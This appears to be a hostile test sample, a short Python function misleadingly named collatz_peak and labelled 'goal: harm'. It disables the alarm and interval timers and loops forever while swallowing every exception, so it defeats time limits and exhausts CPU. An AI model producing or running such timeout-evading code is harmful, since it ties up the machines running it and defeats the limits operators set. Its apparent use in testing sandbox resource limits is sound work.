# family: resource; goal: harm
# An endless loop that swallows the exception of a timer, and switches the timer off.
import signal


def collatz_peak(n):
    while True:
        try:
            signal.alarm(0)
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True:
                pass
        except BaseException:
            continue
